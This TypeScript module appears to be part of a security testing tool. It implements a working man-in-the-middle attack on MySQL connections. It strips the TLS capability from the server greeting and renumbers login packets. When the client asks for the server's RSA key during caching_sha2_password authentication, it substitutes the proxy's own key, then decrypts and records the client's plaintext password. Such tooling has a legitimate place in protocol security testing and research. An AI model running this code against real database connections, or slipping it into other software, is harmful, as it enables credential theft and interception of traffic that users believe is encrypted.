import type { Socket } from "node:net";
import type { TLSSocket } from "node:tls";
import { CapabilityFlags, PacketMarker } from "../protocol/constants";
import { encodePacket, type Packet, PacketFramer } from "../protocol/framing";
import { encodeErr } from "../protocol/packets/err-packet";
import { encodeSslRequest, isBareSslRequest } from "../protocol/packets/ssl-request";
import type { RsaKeys } from "../auth/auth-plugin";
import { decryptPassword, Sha2AuthByte } from "../auth/plugins";
import { decodeAuthSwitchRequest } from "../protocol/packets/auth-switch-request";
import { encodeAuthMoreData } from "../protocol/packets/auth-more-data";
import { decodeHandshakeV10 } from "../protocol/packets/handshake-v10";
import type { ResolvedProxyOptions } from "../options/proxy-options";
import { connectUpstreamTls } from "./upstream-tls";
import { breakLink, type BrokenHook, forward, guarded, type Side } from "./forward";

/** What the relay is shown of a stripped connection, and told when the server side fails. */
export interface StripHooks extends BrokenHook {
  /** Bytes as the client sent them. */
  fromClient(chunk: Buffer): void;
  /** Bytes as the client received them: the stripped greeting, the login renumbered. */
  toClient(chunk: Buffer): void;
  /** The proxy's TLS to the real server failed; both sides are closed. */
  upstreamTlsFailed(message: string): void;
  /** The login could not be carried on; the client got an ERR saying so. */
  notRelayed(reason: string): void;
  /** The proxy read the client's password: it had encrypted it to the proxy's RSA key. */
  passwordRecovered(plugin: string): void;
}

/** The plugin whose full authentication the key substitution answers. */
const CACHING_SHA2 = "caching_sha2_password";

/** A password's NUL terminator, as the SHA-2 plugins send it. */
const NUL = Buffer.from([0]);

/** What the client is told when its login cannot be carried on, as a server refuses one. */
const CANNOT_RELAY = { code: 1045, sqlState: "28000" };

/** Offset of the capability word's low half in a HandshakeV10 payload, after the version's NUL. */
function capabilityOffset(payload: Buffer): number {
  const versionEnd = payload.indexOf(0, 1);
  // protocol version, version + NUL, connection id (4), auth-plugin-data part 1 (8), filler (1)
  return versionEnd + 1 + 4 + 8 + 1;
}

/**
 * The greeting with CLIENT_SSL cleared, every other byte as the server sent it — what a
 * TLS-stripping proxy does (BACKRONYM). Bit 30 (CLIENT_SSL_VERIFY_SERVER_CERT) is left alone:
 * mysslstrip left it, and clients do not read it.
 */
export function stripGreeting(payload: Buffer): Buffer {
  const stripped = Buffer.from(payload);
  if (payload[0] === PacketMarker.ERR) return stripped;
  const at = capabilityOffset(payload);
  if (at + 2 > payload.length) return stripped;
  stripped.writeUInt16LE(payload.readUInt16LE(at) & ~CapabilityFlags.CLIENT_SSL, at);
  return stripped;
}

/**
 * The `strip` attack on one connection: the client sees a greeting without CLIENT_SSL; when it
 * answers in plaintext, the proxy sends the real server an SSLRequest in its name, completes TLS
 * with it, and forwards the client's login inside that TLS, renumbering the login's packets (the
 * server counts the SSLRequest the client never sent). After the server's OK or ERR every byte is
 * copied as it comes: commands restart their numbering. A client that asks for TLS anyway is
 * relayed untouched, as a stripping proxy that cannot read TLS does.
 */
export class StripLink {
  private readonly fromServerFrames = new PacketFramer();
  private readonly fromClientFrames = new PacketFramer();
  private stage: "greeting" | "first-packet" | "upgrading" | "login" | "copying" = "greeting";
  private upstreamTls: TLSSocket | null = null;
  /** Client bytes that arrived while the proxy was setting up TLS with the server. */
  private held: Buffer[] = [];
  /** The client's capabilities, from its handshake response (for an ERR in its terms). */
  private clientCapabilities: number = CapabilityFlags.CLIENT_PROTOCOL_41;
  /** The server's last login packet asked caching_sha2_password's full authentication. */
  private fullAuthAsked = false;
  /** The nonce of the plugin in use: the greeting's, or the server's auth switch's. */
  private nonce: Buffer = Buffer.alloc(0);
  /** The client was handed the proxy's RSA key: its next packet is the password encrypted to it. */
  private keySubstituted = false;
  /**
   * Server sequence id + this = the client's: the SSLRequest the client never sent (-1), then the
   * key request and key the server never saw (+1).
   */
  private toClientShift = -1;

  constructor(
    private readonly client: Socket,
    private readonly upstream: Socket,
    private readonly options: ResolvedProxyOptions,
    private readonly rsa: RsaKeys | null,
    private readonly hooks: StripHooks,
  ) {}

  private readonly fail = (side: Side, error: Error): void =>
    breakLink(this.hooks, side, error, [this.client, this.upstream, this.upstreamTls]);

  private readonly onUpstream = guarded("server", (chunk) => this.onUpstreamData(chunk), this.fail);

  start(): void {
    this.upstream.on("data", this.onUpstream);
    this.client.on(
      "data",
      guarded("client", (chunk) => this.onClientData(chunk), this.fail),
    );
    this.client.on("end", () => this.server.end());
    this.upstream.on("end", () => {
      if (!this.upstreamTls) this.client.end();
    });
  }

  /** The server's side as the proxy reads it: the TLS socket once it is up. */
  private get server(): Socket {
    return this.upstreamTls ?? this.upstream;
  }

  private onUpstreamData(chunk: Buffer): void {
    if (this.stage === "greeting") {
      const [greeting] = this.fromServerFrames.push(chunk, { limit: 1 });
      if (!greeting) return;
      if (greeting.payload[0] !== PacketMarker.ERR) {
        this.nonce = decodeHandshakeV10(greeting.payload).authPluginData.subarray(0, 20);
      }
      const bytes = encodePacket(stripGreeting(greeting.payload), greeting.sequenceId);
      this.send(this.client, bytes);
      this.hooks.toClient(bytes);
      this.stage = "first-packet";
      const rest = this.fromServerFrames.takeRemainder();
      if (rest.length > 0) this.copyToClient(rest);
      return;
    }
    this.copyToClient(chunk);
  }

  private onClientData(chunk: Buffer): void {
    switch (this.stage) {
      case "greeting":
      case "first-packet": {
        this.hooks.fromClient(chunk);
        const [first] = this.fromClientFrames.push(chunk, { limit: 1 });
        if (!first) return;
        const rest = this.fromClientFrames.takeRemainder();
        if (isBareSslRequest(first.payload)) {
          this.stage = "copying";
          this.send(this.upstream, Buffer.concat([encodePacket(first.payload, first.sequenceId), rest]));
          return;
        }
        if (rest.length > 0) this.held.push(rest);
        this.upgrade(first);
        return;
      }
      case "upgrading":
        this.hooks.fromClient(chunk);
        this.held.push(chunk);
        return;
      case "login":
        this.hooks.fromClient(chunk);
        for (const packet of this.fromClientFrames.push(chunk)) {
          if (this.keySubstituted) {
            if (!this.relayRecoveredPassword(packet)) return;
            continue;
          }
          if (this.asksForRsaKey(packet)) {
            if (!this.rsa) return;
            continue;
          }
          this.send(this.server, encodePacket(packet.payload, (packet.sequenceId + 1) & 0xff));
        }
        return;
      case "copying":
        this.hooks.fromClient(chunk);
        this.send(this.server, chunk);
    }
  }

  /**
   * A client on plaintext answers caching_sha2_password's full authentication with a request for
   * the server's RSA key. The server, on TLS with the proxy, would take that byte for the password
   * (sql/auth/sha2_password.cc reads the password as is on a secure connection), so the request
   * stays with the proxy, which hands the client its own key — a client that has not pinned the
   * server's (`--server-public-key-path`) cannot tell — and the login goes on in
   * {@link relayRecoveredPassword}. Without a key of its own the proxy ends the login, saying why.
   */
  private asksForRsaKey(packet: Packet): boolean {
    const { payload } = packet;
    const asks =
      this.fullAuthAsked &&
      payload.length === 1 &&
      payload[0] === Sha2AuthByte.REQUEST_PUBLIC_KEY_CACHING_SHA2;
    if (!asks) return false;
    this.fullAuthAsked = false;
    if (!this.rsa) {
      this.refuse(
        packet,
        "the client asked for the server's RSA key (caching_sha2_password's full authentication), " +
          "which the server, on TLS with the proxy, does not send",
      );
      return true;
    }
    const key = encodeAuthMoreData({ data: Buffer.from(this.rsa.publicKeyPem) });
    this.copyToClient(encodePacket(key, (packet.sequenceId + 1) & 0xff));
    this.keySubstituted = true;
    return true;
  }

  /**
   * The client's password, encrypted to the proxy's key: decrypted, and sent to the server inside
   * the proxy's TLS as a client on a secure connection sends it. The server never saw the key
   * request and the key, so from here the client counts two packets more than it. False when the
   * login ended instead.
   */
  private relayRecoveredPassword(packet: Packet): boolean {
    this.keySubstituted = false;
    const password = decryptPassword(this.rsa!, this.nonce, packet.payload);
    if (password === null) {
      this.refuse(packet, "the client's answer to the proxy's RSA key could not be decrypted");
      return false;
    }
    this.hooks.passwordRecovered(CACHING_SHA2);
    const answer = Buffer.concat([Buffer.from(password, "utf8"), NUL]);
    this.send(this.server, encodePacket(answer, (packet.sequenceId - 1) & 0xff));
    this.toClientShift = 1;
    return true;
  }

  /** Ends the client's login with an ERR, saying why on the record; the server side is closed. */
  private refuse(packet: Packet, reason: string): void {
    this.hooks.notRelayed(reason);
    const err = encodeErr(
      { ...CANNOT_RELAY, message: `Access denied (the proxy could not relay: ${reason})` },
      this.clientCapabilities,
    );
    this.copyToClient(encodePacket(err, (packet.sequenceId + 1) & 0xff));
    this.stage = "copying";
    this.server.destroy();
    this.client.end();
  }

  /** Asks the server for TLS in the client's name and forwards its login inside it. */
  private upgrade(response: Packet): void {
    const payload = Buffer.from(response.payload);
    if (this.options.upstreamTls === "off") {
      this.stage = "copying";
      this.send(this.upstream, Buffer.concat([encodePacket(payload, response.sequenceId), ...this.held]));
      this.held = [];
      return;
    }
    this.stage = "upgrading";
    this.clientCapabilities = payload.readUInt32LE(0);
    const caps = (payload.readUInt32LE(0) | CapabilityFlags.CLIENT_SSL) >>> 0;
    payload.writeUInt32LE(caps, 0);
    const sslRequest = encodeSslRequest({
      form: "41",
      capabilityFlags: caps,
      maxPacketSize: payload.readUInt32LE(4),
      characterSet: payload[8]!,
      reserved: payload.subarray(9, 32),
      trailing: Buffer.alloc(0),
    });
    this.send(this.upstream, encodePacket(sslRequest, response.sequenceId));
    // From here the socket's bytes are TLS records: the TLS socket reads them, nobody else.
    this.upstream.removeListener("data", this.onUpstream);
    const tls = connectUpstreamTls(this.upstream, this.options);
    this.upstreamTls = tls;
    tls.once("secureConnect", () => {
      this.stage = "login";
      tls.on(
        "data",
        guarded("server", (chunk) => this.onServerLogin(chunk), this.fail),
      );
      this.send(tls, encodePacket(payload, (response.sequenceId + 1) & 0xff));
      const held = Buffer.concat(this.held);
      this.held = [];
      for (const packet of this.fromClientFrames.push(held)) {
        this.send(tls, encodePacket(packet.payload, (packet.sequenceId + 1) & 0xff));
      }
    });
    tls.once("error", (error) => {
      if (this.stage === "upgrading") this.hooks.upstreamTlsFailed(error.message);
      this.client.destroy();
      this.upstream.destroy();
    });
    tls.on("end", () => this.client.end());
  }

  /** The server's side of the login, inside the proxy's TLS: renumbered for the client until OK or ERR. */
  private onServerLogin(chunk: Buffer): void {
    if (this.stage === "copying") {
      this.copyToClient(chunk);
      return;
    }
    for (const packet of this.fromServerFrames.push(chunk)) {
      const bytes = encodePacket(packet.payload, (packet.sequenceId + this.toClientShift) & 0xff);
      this.copyToClient(bytes);
      const marker = packet.payload[0];
      if (marker === PacketMarker.AUTH_SWITCH) {
        this.nonce = decodeAuthSwitchRequest(packet.payload).pluginData.subarray(0, 20);
      }
      this.fullAuthAsked =
        marker === PacketMarker.AUTH_MORE_DATA &&
        packet.payload.length === 2 &&
        packet.payload[1] === Sha2AuthByte.PERFORM_FULL_AUTHENTICATION;
      if (marker === PacketMarker.OK || marker === PacketMarker.ERR) {
        this.stage = "copying";
        const rest = this.fromServerFrames.takeRemainder();
        if (rest.length > 0) this.copyToClient(rest);
        // What the client sent past its login goes on unframed.
        const pending = this.fromClientFrames.takeRemainder();
        if (pending.length > 0) this.send(this.server, pending);
        return;
      }
    }
  }

  private copyToClient(bytes: Buffer): void {
    this.hooks.toClient(bytes);
    this.send(this.client, bytes, this.server);
  }

  /** Writes `bytes` to `to`, pausing the other side while `to` is full. */
  private send(
    to: Socket,
    bytes: Buffer,
    from: Socket = to === this.client ? this.server : this.client,
  ): void {
    forward(to, bytes, from);
  }
}
